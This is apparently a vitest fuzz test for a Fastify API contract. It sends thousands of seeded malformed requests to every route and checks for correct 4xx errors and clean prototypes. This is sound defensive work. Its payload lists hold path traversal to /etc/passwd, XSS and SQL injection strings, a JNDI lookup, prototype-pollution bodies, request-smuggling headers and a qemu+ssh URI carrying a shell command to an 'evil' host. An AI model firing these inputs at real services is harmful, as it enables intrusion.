// Bad input, fired at every route of the contract's table (new routes are fuzzed as they are
// added): about 3,000 requests from a seeded PRNG — so a failure replays exactly — with hostile
// path parameters (`..`, `%2F`, NUL, overlong, undecodable), unknown and ill-typed query
// fields, JSON of the wrong shape, wrong types and out-of-range values, huge strings (under
// and over the body limit), deep nesting, invalid UTF-8, duplicate and prototype-polluting
// keys, wrong content types, wrong methods and mangled paths.
//
// The oracle is the contract itself: each request is also judged by the route's zod schemas
// (after the same decoding Fastify does), which says whether the server must refuse it and
// with which status. Garbage must get exactly that 4xx; a request the schemas accept may get
// any answer but a 5xx. Every error answer must be `{ error: { code, message, requestId } }`
// with a code from the contract whose status is the one sent, and the X-Request-Id header
// equal to that requestId. Afterwards the server still answers and Object.prototype is clean.
//
// Passes: as an Administrator's API token (so requests reach validation), anonymously (401
// before anything else, except on public routes), and with forged credentials.
import net from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { z } from 'zod';
import { API_PREFIX, ERROR_CODES, ERROR_STATUS, routes, type RouteDef } from '@ferry/contract';
import { buildTestApp } from './test-support/build-test-app.ts';
import { tokenFor } from './test-support/auth-helpers.ts';

const SEED = 0xf3a7_2026;
const AUTHENTICATED_CASES = 3000;
const ANONYMOUS_CASES = 600;
const FORGED_CASES = 200;
const BATCH = 16;

// --- a small seeded PRNG (mulberry32) -----------------------------------------------------
function prng(seed: number) {
  let s = seed >>> 0;
  const next = () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = Math.imul(s ^ (s >>> 15), 1 | s);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  const pick = <T>(xs: readonly T[]): T => xs[int(xs.length)]!;
  const chance = (p: number) => next() < p;
  return { next, int, pick, chance };
}
type Rng = ReturnType<typeof prng>;

// --- what the server must do --------------------------------------------------------------
type Expect = { kind: 'exact'; status: number } | { kind: '4xx' } | { kind: 'not5xx' };
const exact = (status: number): Expect => ({ kind: 'exact', status });
const ANY_4XX: Expect = { kind: '4xx' };
const NOT_5XX: Expect = { kind: 'not5xx' };

interface Case {
  route: string;
  defect: string;
  method: string;
  url: string;
  headers: Record<string, string>;
  payload?: Buffer;
  expect: Expect;
}

const ROUTES = Object.entries(routes) as [string, RouteDef][];
/** The methods each path has in the table (a wrong method is one it has not). */
const methodsAt = new Map<string, Set<string>>();
for (const [, def] of ROUTES) methodsAt.set(def.path, new Set([...(methodsAt.get(def.path) ?? []), def.method]));
// A literal path may also match another route's parameter (`/volumes/upload` is a `/volumes/:volume`):
// that route's methods are not wrong methods there.
const patternOf = (p: string) => new RegExp(`^${p.replace(/:[A-Za-z0-9_]+/g, '[^/]+')}$`);
for (const [, def] of ROUTES) {
  for (const [path, methods] of methodsAt) if (path !== def.path && patternOf(def.path).test(path)) methods.add(def.method);
}
const BODY_LIMIT = 1 << 20;
const JSON_TYPES = ['application/json', 'application/json; charset=utf-8', 'Application/JSON'];
const NOT_JSON_TYPES = ['text/plain', 'application/xml', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=----x', 'application/json-patch+json', 'garbage'];
const HTTP_METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'];

/** Values that look right for many fields: a request built from them may well be valid. */
const PLAUSIBLE: unknown[] = [
  'a', 'fuzz-name', 'h1', 'local', 'Administrator', 'Operator', 'Auditor', '/', '/hosts/local', 'test:///default',
  'correct horse battery staple', '2030-01-01T00:00:00Z', 'abcdefgh12', '6f1c2b8e-6a2e-4a56-9d0e-2f6c8d1e4b7a',
  'succeeded', 'vm', 'hour', 0, 1, 60, 100, true, false,
];
/** Values wrong for nearly any field: types, bounds, sizes, encodings. */
const HOSTILE_STRINGS = [
  '', ' ', '..', '../../etc/passwd', '/etc/shadow', 'a/b', 'a\\b', '\u0000', 'a\u0000b', '\ud800', '\uffff', '\u202egnp.exe',
  '<script>alert(1)</script>', "' OR 1=1 --", '${jndi:ldap://x/a}', '%s%s%n', 'A'.repeat(300), 'é'.repeat(70), '🦀'.repeat(40),
  '-1', 'NaN', 'Infinity', '1e309', 'true', 'null', '[]', '{}', 'qemu+ssh://root@evil/system?command=/bin/sh',
];
const HOSTILE_NUMBERS = [-1, -0.5, 1.5, 1e308, -1e308, 2 ** 53 + 1, 1e-300, 4294967296, 65536];

// --- decoding as Fastify does -------------------------------------------------------------
function decodeParam(raw: string): string | null {
  try {
    return decodeURIComponent(raw);
  } catch {
    return null;
  }
}

/** The query object Fastify's parser builds (null prototype, repeats become arrays). */
function parseQuery(pairs: [string, string][]): Record<string, string | string[]> {
  const out = Object.create(null) as Record<string, string | string[]>;
  for (const [k, v] of pairs) {
    const prev = out[k];
    out[k] = prev === undefined ? v : Array.isArray(prev) ? [...prev, v] : [prev, v];
  }
  return out;
}

/** Fastify's JSON body parser (secure-json-parse: `__proto__` and `constructor.prototype` refused). */
function parseJsonBody(bytes: Buffer): { ok: true; value: unknown } | { ok: false } {
  const text = bytes.toString('utf8');
  if (text.length === 0) return { ok: false };
  let value: unknown;
  try {
    value = JSON.parse(text);
  } catch {
    return { ok: false };
  }
  if (!/"(?:__proto__|constructor)"/.test(text)) return { ok: true, value };
  // Walk without recursion: the value may be nested 100,000 deep.
  const stack: unknown[] = [value];
  while (stack.length) {
    const node = stack.pop();
    if (node === null || typeof node !== 'object') continue;
    if (Object.hasOwn(node, '__proto__')) return { ok: false };
    const ctor = (node as Record<string, unknown>).constructor;
    if (Object.hasOwn(node, 'constructor') && ctor !== null && typeof ctor === 'object' && Object.hasOwn(ctor, 'prototype')) return { ok: false };
    stack.push(...Object.values(node));
  }
  return { ok: true, value };
}

const shapeOf = (s: z.ZodType | undefined): Record<string, z.ZodType> => (s instanceof z.ZodObject ? (s.shape as Record<string, z.ZodType>) : {});

function plausibleFor(rng: Rng, schema: z.ZodType | undefined): unknown {
  const fits = PLAUSIBLE.filter((v) => schema?.safeParse(v).success);
  return fits.length ? rng.pick(fits) : rng.pick(PLAUSIBLE);
}

// --- random JSON ----------------------------------------------------------------------------
function hostileValue(rng: Rng, depth = 0): unknown {
  switch (rng.int(depth > 2 ? 4 : 7)) {
    case 0: return rng.pick(HOSTILE_STRINGS);
    case 1: return rng.pick(HOSTILE_NUMBERS);
    case 2: return rng.pick([null, true, false, 0]);
    case 3: return 'x'.repeat(rng.pick([1000, 65_536, 300_000]));
    case 4: return Array.from({ length: rng.int(4) }, () => hostileValue(rng, depth + 1));
    case 5: return Object.fromEntries(Array.from({ length: rng.int(4) }, (_, i) => [`k${i}`, hostileValue(rng, depth + 1)]));
    default: return rng.pick(PLAUSIBLE);
  }
}

function bodyDefect(rng: Rng, def: RouteDef): { defect: string; contentType?: string; bytes?: Buffer } {
  const keys = Object.keys(shapeOf(def.body));
  const shape = shapeOf(def.body);
  const objectWith = (extra: Record<string, unknown> = {}) => {
    const o: Record<string, unknown> = {};
    for (const k of keys) if (rng.chance(0.8)) o[k] = rng.chance(0.6) ? plausibleFor(rng, shape[k]) : hostileValue(rng);
    return { ...o, ...extra };
  };
  const json = (text: string | Buffer) => (typeof text === 'string' ? Buffer.from(text, 'utf8') : text);
  const ct = rng.pick(JSON_TYPES);
  const key = keys.length ? rng.pick(keys) : 'name';
  switch (rng.int(12)) {
    case 0: return { defect: 'wrong JSON type', contentType: ct, bytes: json(JSON.stringify(rng.pick([42, 'text', true, null, [], [{}], -1.5]))) };
    case 1: return { defect: 'fields of wrong type or out of bounds', contentType: ct, bytes: json(JSON.stringify(objectWith())) };
    case 2: return { defect: 'unknown field', contentType: ct, bytes: json(JSON.stringify(objectWith({ [rng.pick(['isAdmin', 'role2', 'id', 'extra', 'password2'])]: hostileValue(rng) }))) };
    case 3: return { defect: 'prototype pollution', contentType: ct, bytes: json(rng.pick([
      `{"__proto__":{"polluted":"yes"},"${key}":"a"}`, `{"${key}":{"__proto__":{"polluted":"yes"}}}`,
      '{"constructor":{"prototype":{"polluted":"yes"}}}', `{"${key}":"a","constructor":{"prototype":{"polluted":"yes"}}}`,
      '{"constructor":"x"}', '{"hasOwnProperty":1,"toString":"x"}',
    ])) };
    case 4: return { defect: 'duplicate keys', contentType: ct, bytes: json(`{"${key}":${JSON.stringify(plausibleFor(rng, shape[key]))},"${key}":${JSON.stringify(hostileValue(rng))}}`) };
    case 5: {
      const depth = rng.pick([100, 5_000, 100_000]);
      return { defect: `nesting depth ${depth}`, contentType: ct, bytes: json(`{"${key}":${'['.repeat(depth)}${']'.repeat(depth)}}`) };
    }
    case 6: {
      const size = rng.pick([BODY_LIMIT - 1024, BODY_LIMIT + 1, 3 * BODY_LIMIT]);
      return { defect: `huge string (${size} bytes)`, contentType: ct, bytes: json(`{"${key}":"${'A'.repeat(size)}"}`) };
    }
    case 7: {
      const bad = rng.pick([[0xff], [0xfe, 0xff], [0xc3, 0x28], [0xe2, 0x82], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80]]);
      return { defect: 'invalid UTF-8', contentType: ct, bytes: Buffer.concat([Buffer.from(`{"${key}":"a`), Buffer.from(bad), Buffer.from('b"}')]) };
    }
    case 8: return { defect: 'not JSON content type', contentType: rng.pick(NOT_JSON_TYPES), bytes: json(JSON.stringify(objectWith())) };
    case 9: return { defect: 'malformed JSON', contentType: ct, bytes: json(rng.pick(['{', '{"a":1,}', "{'a':1}", '{"a":NaN}', '{"a":1}/*x*/', '[1,2', '{"a":"\\x41"}', '\u0000{}', 'nul', '{"a":1}{"b":2}'])) };
    case 10: return { defect: 'empty JSON body', contentType: ct, bytes: Buffer.alloc(0) };
    default: return { defect: 'no body' };
  }
}

// --- one case -------------------------------------------------------------------------------
const PARAM_ATTACKS: { raw: string; note: string }[] = [
  { raw: '..', note: 'dot-dot' }, { raw: '.', note: 'dot' }, { raw: '%2e%2e', note: 'encoded dot-dot' },
  { raw: '%2F', note: 'encoded slash' }, { raw: 'a%2F..%2F..%2Fetc%2Fpasswd', note: 'traversal' }, { raw: '%5C..%5C', note: 'backslashes' },
  { raw: '%00', note: 'NUL' }, { raw: 'a%00b', note: 'embedded NUL' }, { raw: '%ff', note: 'undecodable' }, { raw: '%E0%A4%A', note: 'truncated escape' },
  { raw: 'x'.repeat(201), note: 'over maxParamLength' }, { raw: 'x'.repeat(4000), note: 'overlong' }, { raw: 'a'.repeat(64), note: 'one too long' },
  { raw: '%C3%A9t%C3%A9', note: 'non-ASCII' }, { raw: '%F0%9F%A6%80', note: 'emoji' }, { raw: 'ABC', note: 'upper case' }, { raw: '%20', note: 'space' },
  { raw: '-1', note: 'negative' }, { raw: '0', note: 'zero' }, { raw: 'null', note: 'null' }, { raw: '%3Cscript%3E', note: 'markup' },
  { raw: '6F1C2B8E-6A2E-4A56-9D0E-2F6C8D1E4B7A', note: 'upper-case UUID' }, { raw: '%7B%7D', note: 'braces' }, { raw: '', note: 'empty' },
];
const QUERY_KEYS = ['foo', '__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'a[b]', 'x'.repeat(300), '%00', 'limit%00'];
const QUERY_VALUES = ['abc', '-1', '1e309', '99999999999999999999', '1.5', 'NaN', 'Infinity', '0x10', '%00', '%ff', 'x'.repeat(5000), '..%2F..'];

function makeCase(rng: Rng, name: string, def: RouteDef, registered: boolean, anonymous: boolean): Case {
  const paramNames = [...def.path.matchAll(/:([A-Za-z0-9_]+)/g)].map((m) => m[1]!);
  const pShape = shapeOf(def.params);
  const params = new Map(paramNames.map((p) => {
    const v = String(plausibleFor(rng, pShape[p]));
    return [p, { raw: encodeURIComponent(v), decoded: v as string | null }];
  }));
  const query: [string, string][] = [];
  let method: string = def.method;
  let mangledPath = false;
  let wrongMethod = false;
  const defects: string[] = [];
  const qShape = shapeOf(def.query);
  const qKeys = Object.keys(qShape);
  for (const k of qKeys) if (rng.chance(0.3)) query.push([k, String(plausibleFor(rng, qShape[k]))]);

  // Defects the route's schemas can refuse. A route that declares no query string takes none
  // (lib/route.ts gives it an empty strict query schema).
  const kinds = ['method', 'path'];
  if (def.method !== 'GET') kinds.push('body', 'body', 'body', 'body');
  if (paramNames.length) kinds.push('param', 'param', 'param');
  if (def.query) kinds.push('query-unknown', 'query-value', 'query-value');
  else kinds.push('query-unknown');
  const kind = rng.pick(kinds);

  let body: { defect: string; contentType?: string; bytes?: Buffer } = def.method === 'GET' ? { defect: 'none' }
    : { defect: 'empty object', contentType: 'application/json', bytes: Buffer.from('{}') };
  switch (kind) {
    case 'param': {
      const p = rng.pick(paramNames);
      const attack = rng.pick(PARAM_ATTACKS);
      params.set(p, { raw: attack.raw, decoded: decodeParam(attack.raw) });
      defects.push(`param ${p}: ${attack.note}`);
      break;
    }
    case 'query-unknown': {
      query.push([rng.pick(QUERY_KEYS), rng.pick(QUERY_VALUES)]);
      defects.push('unknown query field');
      break;
    }
    case 'query-value': {
      const k = qKeys.length ? rng.pick(qKeys) : rng.pick(QUERY_KEYS);
      query.push([k, rng.pick(QUERY_VALUES)]);
      if (rng.chance(0.3)) query.push([k, rng.pick(QUERY_VALUES)]); // repeated key → an array
      defects.push(`query ${k.slice(0, 20)}: bad value`);
      break;
    }
    case 'method': {
      const taken = methodsAt.get(def.path) ?? new Set();
      const others = HTTP_METHODS.filter((m) => !taken.has(m));
      if (others.length) {
        method = rng.pick(others);
        wrongMethod = true;
        defects.push(`method ${method}`);
      }
      break;
    }
    case 'path':
      mangledPath = true;
      defects.push('mangled path');
      break;
    default:
      body = bodyDefect(rng, def);
      defects.push(`body: ${body.defect}`);
  }

  let path = def.path.replace(/:([A-Za-z0-9_]+)/g, (_, p: string) => params.get(p)!.raw);
  if (mangledPath) {
    path = rng.pick([
      `${path}/`, `${path}/zz9`, path.replace('/', '//'), path.toUpperCase(), `${path}%2F`, `/..${path}`, `${path};x=1`,
    ]);
  }
  const qs = query.map(([k, v]) => `${/%/.test(k) ? k : encodeURIComponent(k)}=${/%/.test(v) ? v : encodeURIComponent(v)}`).join('&');
  const url = `${mangledPath && rng.chance(0.2) ? '/api/v2' : API_PREFIX}${path}${qs ? `?${qs}` : ''}`;
  const headers: Record<string, string> = {};
  if (body.contentType !== undefined && method !== 'GET') headers['content-type'] = body.contentType;

  return {
    route: name, defect: defects.join('; ') || 'none', method, url, headers,
    ...(body.bytes && method !== 'GET' ? { payload: body.bytes } : {}),
    expect: judge(def, registered, anonymous, { params, query, body, method, mangledPath, wrongMethod }),
  };
}

/**
 * What the contract says the server must answer: for an Administrator, what validation says;
 * for an anonymous caller, 401 on any matched route that is not public (checked first).
 */
function judge(def: RouteDef, registered: boolean, anonymous: boolean, r: {
  params: Map<string, { raw: string; decoded: string | null }>; query: [string, string][];
  body: { contentType?: string; bytes?: Buffer }; method: string; mangledPath: boolean; wrongMethod: boolean;
}): Expect {
  const decoded = [...r.params.values()];
  if (decoded.some((p) => p.decoded === null)) return exact(400); // undecodable URL
  if (decoded.some((p) => p.decoded!.length > 200)) return exact(400); // over maxParamLength
  if (!registered || r.mangledPath) return ANY_4XX;
  if (r.wrongMethod) return exact(404);
  // A dot segment (`..`, `%2e%2e`) is resolved by URL parsing and an empty one may match
  // another route: some 4xx, not necessarily 400.
  if (decoded.some((p) => /^(?:\.|%2e){0,2}$/i.test(p.raw))) return ANY_4XX;
  if (anonymous && def.permission.kind !== 'public') return exact(401);
  if (r.query.some(([k, v]) => /%/.test(k) || /%/.test(v))) return ANY_4XX; // raw escapes: decoding left to the parser; a route without a query takes none

  let bodyOk = true;
  if (r.method !== 'GET') {
    if (r.body.bytes === undefined) {
      // lib/route.ts: an absent body counts as {} where the schema accepts {}.
      bodyOk = def.body ? def.body.safeParse({}).success : true;
    } else {
      if (!JSON_TYPES.includes(r.body.contentType ?? '')) return exact(415);
      if (r.body.bytes.length > BODY_LIMIT) return exact(413);
      const parsed = parseJsonBody(r.body.bytes);
      if (!parsed.ok) return exact(400);
      if (!def.body) return exact(400); // lib/route.ts: a route without a body schema takes no body
      bodyOk = def.body.safeParse(parsed.value).success;
    }
  }
  const paramsOk = def.params ? def.params.safeParse(Object.fromEntries(decoded.map((p, i) => [[...r.params.keys()][i]!, p.decoded]))).success : true;
  const queryOk = def.query ? def.query.safeParse(parseQuery(r.query)).success : Object.keys(parseQuery(r.query)).length === 0;
  return paramsOk && queryOk && bodyOk ? NOT_5XX : exact(400);
}

// --- checking one answer --------------------------------------------------------------------
function problemWith(res: LightMyRequestResponse, expected: Expect): string | null {
  const rid = res.headers['x-request-id'];
  if (typeof rid !== 'string' || !/^[0-9a-f-]{36}$/.test(rid)) return 'no X-Request-Id';
  const s = res.statusCode;
  // A request the contract accepts reaches the hypervisor, and "the host is not connected"
  // (503) or "did not answer in time" (504) are documented answers to it. Nothing else 5xx.
  const hypervisorDown = expected.kind === 'not5xx' && /"code":"HYPERVISOR_(UNAVAILABLE|TIMEOUT)"/.test(res.body);
  if (s >= 500 && !hypervisorDown) return `a ${s}: ${res.body.slice(0, 300)}`;
  if (expected.kind === 'exact' && s !== expected.status) return `${s} where the contract says ${expected.status}: ${res.body.slice(0, 300)}`;
  if (expected.kind === '4xx' && (s < 400 || s > 499)) return `${s} for a request the contract refuses`;
  if (s < 400) return null;
  let body: { error?: { code?: string; message?: unknown; requestId?: unknown } };
  try {
    body = JSON.parse(res.body) as typeof body;
  } catch {
    return `a ${s} whose body is not JSON: ${res.body.slice(0, 200)}`;
  }
  const code = body.error?.code;
  if (!code || !(ERROR_CODES as readonly string[]).includes(code)) return `unknown error code ${String(code)}`;
  if (ERROR_STATUS[code as keyof typeof ERROR_STATUS] !== s) return `code ${code} sent with status ${s}`;
  if (typeof body.error?.message !== 'string') return 'error without a message';
  if (body.error?.requestId !== rid) return 'error requestId differs from X-Request-Id';
  if (/\n\s+at |node_modules|\/work\/|\.ts:\d+/.test(res.body)) return `internals in the body: ${res.body.slice(0, 300)}`;
  return null;
}

// --- the runs ---------------------------------------------------------------------------------
let app: FastifyInstance;
let admin: Record<string, string>;
let prototypeBefore: string[];

beforeAll(async () => {
  prototypeBefore = Object.getOwnPropertyNames(Object.prototype).sort();
  app = await buildTestApp();
  admin = await tokenFor(app, 'admin-fuzz', 'Administrator');
});
afterAll(() => app.close());

interface Summary { sent: number; byStatus: Record<number, number>; failures: string[] }

async function fire(cases: Case[], extraHeaders: Record<string, string>): Promise<Summary> {
  const summary: Summary = { sent: 0, byStatus: {}, failures: [] };
  for (let i = 0; i < cases.length; i += BATCH) {
    await Promise.all(cases.slice(i, i + BATCH).map(async (c, j) => {
      const res = await app.inject({
        method: c.method as 'GET', url: c.url, headers: { ...c.headers, ...extraHeaders }, ...(c.payload ? { payload: c.payload } : {}),
      });
      summary.sent++;
      summary.byStatus[res.statusCode] = (summary.byStatus[res.statusCode] ?? 0) + 1;
      const problem = problemWith(res, c.expect);
      if (problem) summary.failures.push(`#${i + j} ${c.route} [${c.defect}] ${c.method} ${c.url.slice(0, 160)}${c.payload ? ` (${c.payload.length} B ${c.headers['content-type'] ?? 'no type'})` : ''} → ${problem}`);
    }));
  }
  return summary;
}

function casesFor(seed: number, count: number, anonymous = false): Case[] {
  const rng = prng(seed);
  return Array.from({ length: count }, (_, i) => {
    const [name, def] = ROUTES[i % ROUTES.length]!;
    return makeCase(rng, name, def, app.hasRoute({ method: def.method, url: API_PREFIX + def.path }), anonymous);
  });
}

function report(s: Summary): void {
  expect(s.failures.slice(0, 25), `${s.failures.length} of ${s.sent} answers broke the rules (seed ${SEED})`).toEqual([]);
}

describe(`fuzz: every route of the contract with bad input (seed ${SEED})`, () => {
  it(`${AUTHENTICATED_CASES} requests as an Administrator token: each refused with the contract's 4xx, never a 5xx`, async () => {
    const summary = await fire(casesFor(SEED, AUTHENTICATED_CASES), admin);
    expect(summary.sent).toBe(AUTHENTICATED_CASES);
    report(summary);
    expect(summary.byStatus[500] ?? 0, 'internal errors').toBe(0);
  }, 240_000);

  it(`${ANONYMOUS_CASES} requests without credentials: 401 on every non-public route, before validation`, async () => {
    report(await fire(casesFor(SEED + 1, ANONYMOUS_CASES, true), {}));
  }, 120_000);

  it(`${FORGED_CASES} requests with forged or malformed credentials: refused`, async () => {
    const rng = prng(SEED + 2);
    const forged: Record<string, string>[] = [
      { authorization: 'Bearer ' }, { authorization: 'Bearer ferry_forged' }, { authorization: `Bearer ${'A'.repeat(8000)}` },
      { authorization: 'Bearer \u00ff\u00fe' }, { authorization: 'Basic YWRtaW46YWRtaW4=' }, { authorization: `${admin.authorization!}x` },
      { authorization: admin.authorization!.toLowerCase() }, { cookie: 'ferry_session=../../etc/passwd' }, { cookie: `ferry_session=${'%'.repeat(300)}` },
      { cookie: 'ferry_session=' }, { cookie: 'ferry_session=a; ferry_session=b' }, { 'x-csrf-token': 'x' },
    ];
    const cases = casesFor(SEED + 3, FORGED_CASES).map((c) => {
      const def = routes[c.route as keyof typeof routes] as RouteDef;
      return { ...c, headers: { ...c.headers, ...rng.pick(forged) }, expect: def.permission.kind === 'public' ? c.expect : ANY_4XX };
    });
    const summary = await fire(cases, {});
    report(summary);
  }, 120_000);

  it('raw bytes no HTTP client would send, over a real socket: a 4xx, and the server stays up', async () => {
    await app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = app.server.address() as net.AddressInfo;
    const rng = prng(SEED + 4);
    // Written without half-closing (a FIN right after the request makes Node drop a reply that
    // is not ready yet); the server closes once it has answered.
    const send = (bytes: Buffer) => new Promise<string>((resolve) => {
      const sock = net.connect(port, '127.0.0.1');
      let data = '';
      const timer = setTimeout(() => sock.destroy(), 3000);
      sock.setEncoding('latin1');
      sock.on('data', (d: string) => { data += d; });
      sock.on('close', () => { clearTimeout(timer); resolve(data); });
      sock.on('error', () => undefined);
      sock.write(bytes);
    });
    const junk = () => Buffer.from(Array.from({ length: 1 + rng.int(40) }, () => rng.int(256)));
    for (let i = 0; i < 100; i++) {
      const [, def] = rng.pick(ROUTES);
      const target = API_PREFIX + def.path.replace(/:[A-Za-z0-9_]+/g, 'x');
      const variants = [
        Buffer.concat([Buffer.from(`GET ${target}`), junk(), Buffer.from(' HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n')]),
        Buffer.concat([Buffer.from(`POST ${target} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer `), junk(), Buffer.from('\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: 5\r\n\r\n{"a":')]),
        Buffer.concat([Buffer.from(`GET ${target} HTTP/1.1\r\nHost: x\r\nX-`), junk(), Buffer.from(': y\r\nConnection: close\r\n\r\n')]),
        Buffer.concat([Buffer.from(`POST ${target} HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n`), junk()]),
        Buffer.concat([junk(), Buffer.from('\r\n\r\n')]),
      ];
      const request = rng.pick(variants);
      const answer = await send(request);
      expect(answer, `${JSON.stringify(request.toString('latin1').slice(0, 120))} → ${JSON.stringify(answer.slice(0, 200))}`).toMatch(/^HTTP\/1\.1 4\d\d /);
    }
    const health = await fetch(`http://127.0.0.1:${port}/api/v1/health`);
    expect(health.status).toBe(200);
  }, 120_000);

  it('leaves the server answering and Object.prototype unpolluted', async () => {
    const health = await app.inject({ method: 'GET', url: '/api/v1/health' });
    expect(health.statusCode).toBe(200);
    const me = await app.inject({ method: 'GET', url: '/api/v1/auth/me', headers: admin });
    expect(me.statusCode).toBe(200);
    expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeBefore);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect((Object.prototype as Record<string, unknown>).polluted).toBeUndefined();
  });
});
